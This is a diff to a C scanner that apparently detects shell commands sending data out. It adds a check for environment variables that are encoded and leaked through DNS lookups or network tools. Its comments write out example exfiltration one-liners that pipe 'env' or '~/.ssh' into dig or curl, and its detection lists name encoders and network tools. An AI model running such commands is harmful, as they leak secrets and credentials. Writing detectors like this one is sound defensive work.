@@ -135,6 +135,28 @@ has_folder(struct text t, size_t from, size_t to)
 	return false;
 }
 
+/* for v in $(env | base64); do dig $v.host; done: the environment, made to fit
+ * into names or addresses, and then asked for. */
+static bool
+asks(struct text t, size_t at, size_t end)
+{
+	static const char *const pack[] = {
+	    "base64", "base32", "xxd", "od", "hexdump", "openssl"};
+	static const char *const ask[] = {
+	    "dig", "nslookup", "drill", "ping", "curl", "wget", "nc"};
+	size_t before = at > 200 ? at - 200 : 0, to = at + NEAR;
+	bool packs = false;
+
+	if (at < 1 || (t.s[at - 1] != '(' && t.s[at - 1] != '`'))
+		return false;
+	for (size_t i = 0; i < ARRAY_LEN(pack); i++)
+		packs = packs || find_alone(t, at, end, pack[i]) != SIZE_MAX;
+	for (size_t i = 0; packs && i < ARRAY_LEN(ask); i++)
+		if (find_alone(t, before, to, ask[i]) != SIZE_MAX)
+			return true;
+	return packs && find(t, at, to, "; do host $") != SIZE_MAX;
+}
+
 /* env | curl ...; curl -d "$(env)"; tar c ~/.ssh | curl ... */
 size_t
 check_shell_sends(struct text t)
@@ -150,7 +172,8 @@ check_shell_sends(struct text t)
 
 			while (k < end && t.s[k] == ' ')
 				k++;
-			if (k < end && t.s[k] == '|' && uploads(t, k, end))
+			if (k < end && t.s[k] == '|' &&
+			    (uploads(t, k, end) || asks(t, at, end)))
 				return at;
 			if (at > 1 && t.s[at - 1] == '(' &&
 			    t.s[at - 2] == '$' && k < end && t.s[k] == ')' &&
